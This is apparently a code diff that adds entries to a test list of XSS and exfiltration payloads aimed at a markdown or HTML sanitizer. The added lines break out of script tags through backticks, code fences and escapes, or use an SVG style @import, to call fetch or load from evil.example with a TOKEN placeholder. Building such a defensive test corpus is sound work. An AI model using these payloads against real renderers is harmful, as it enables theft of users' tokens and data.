@@ -115,6 +115,10 @@ export const ATTACKS: readonly string[] = [
   "![[`]`](y)<i title='\"'>srcset='//evil.example/?q= TOKEN'](x)",
   '> ![](\u2028> TOKEN)',
   '> <base href=\u2028>TOKEN',
+  'a <script>`</script>` fetch("//evil.example/?q= TOKEN")</script>',
+  'a <script>\n```\n</script>\n```\nfetch("//evil.example/?q= TOKEN")</script>',
+  'a <script>\\</script> fetch("//evil.example/?q= TOKEN")</script>',
+  '<svg><style>@import &quot;//evil.example/<?ph </style>?q= TOKEN&quot;</style></svg>',
   'a <pre><img src=//evil.example/?q=_">TOKEN',
 ]
 
